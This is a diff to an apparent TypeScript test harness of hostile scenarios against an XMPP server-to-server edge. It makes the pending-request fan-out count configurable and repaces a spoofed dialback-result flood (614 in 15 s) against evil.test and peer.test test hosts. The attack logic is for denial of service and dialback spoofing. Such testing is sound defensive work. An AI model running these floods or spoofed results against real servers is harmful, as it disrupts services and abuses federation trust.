@@ -56,6 +56,8 @@ export const bidiClaims: Attack = {
   },
 };
 
+const PENDING = Number(process.env.HOSTILE_PENDING ?? 1000);
+
 // ---- 4. Two streams, each with 1,000 pending db:result for distinct *.evil.test, whose SRV records
 // point to a tarpit on a public address (it accepts and never speaks).
 
@@ -65,13 +67,14 @@ export const pendingFanOut: Attack = {
   async start(stack: HostileStack): Promise<Running> {
     const rule = (name: string) => (/^_xmpp-server\._tcp\.p\d+-\d+\.evil\.test$/.test(name) ? [`0 0 5269 ${PUBLIC_TARPIT}.`] : undefined);
     stack.doh.rules.push(rule);
+    const dohBefore = stack.doh.queries;
     const conns: RawConn[] = [];
     const ready = (async () => {
       for (let s = 0; s < 2; s++) {
         const c = await openAs(stack, "evil.test");
         if (!c) continue;
         conns.push(c);
-        for (let i = 0; i < 1000; i++) c.write(dbResult(`p${s}-${i}.evil.test`, randomKey()));
+        for (let i = 0; i < PENDING; i++) c.write(dbResult(`p${s}-${i}.evil.test`, randomKey()));
       }
       await sleep(5000);
     })();
@@ -90,7 +93,7 @@ export const pendingFanOut: Attack = {
           for (const c of conns) c.destroy();
           stack.sinks.tarpit.drop();
           stack.doh.rules.splice(stack.doh.rules.indexOf(rule), 1);
-          return `${conns.length} streams; answers within the attack: ${answers}; closed by the edge: ${closed.join(",") || "none"}`;
+          return `${conns.length} streams; answers within the attack: ${answers}; closed by the edge: ${closed.join(",") || "none"}; DoH queries ${stack.doh.queries - dohBefore}`;
         })());
       },
     };
@@ -164,27 +167,29 @@ export const spoofedResults: Attack = {
     const verifyBefore = stack.harness.peer.stats.verifyRequests;
     let conn: RawConn | undefined;
     let sent = 0;
-    let stopped = false;
     const deadline = Date.now() + 15_000;
+    // Paced as in the issue's report (614 in 15 s), without waiting for the answers.
     const loop = (async () => {
       conn = await openAs(stack, "spoof.evil.test");
-      while (conn && !conn.closed && !stopped && sent < 614 && Date.now() < deadline) {
+      const t0 = Date.now();
+      while (conn && !conn.closed && sent < 614 && Date.now() < deadline + 10_000) {
         conn.write(dbResult(PEER_DOMAIN, randomKey()));
         sent++;
-        const want = sent;
-        const t = Date.now();
-        while (!conn.closed && dialbackAnswers(conn.text).length < want && Date.now() - t < 3000) await conn.waitFor(/$^/, 50);
+        const due = t0 + (sent * 15_000) / 614;
+        if (due > Date.now()) await sleep(due - Date.now());
       }
+      // The last answers.
+      for (let i = 0; i < 20 && conn && !conn.closed && dialbackAnswers(conn.text).length < sent; i++) await sleep(250);
     })();
     return {
-      ready: sleep(1500),
+      ready: sleep(5000),
       held: () => (conn && !conn.closed ? 1 : 0),
       async stop() {
-        stopped = true;
+        // Runs to its end (614 sent or the stream closed), bounded by `deadline`.
         await loop;
         const answers = new Tally();
         for (const a of dialbackAnswers(conn?.text ?? "")) answers.add(a);
-        const closed = conn?.closed ? `closed by the edge after ${sent} with ${streamError(conn.text) ?? "no stream error"}` : `still open after ${sent}`;
+        const closed = conn?.closed ? `closed by the edge after ${sent} sent, with ${streamError(conn.text) ?? "no stream error"}` : `still open after ${sent}`;
         conn?.destroy();
         return `${closed}; answers ${answers}; db:verify reflected to peer.test ${stack.harness.peer.stats.verifyRequests - verifyBefore}`;
       },
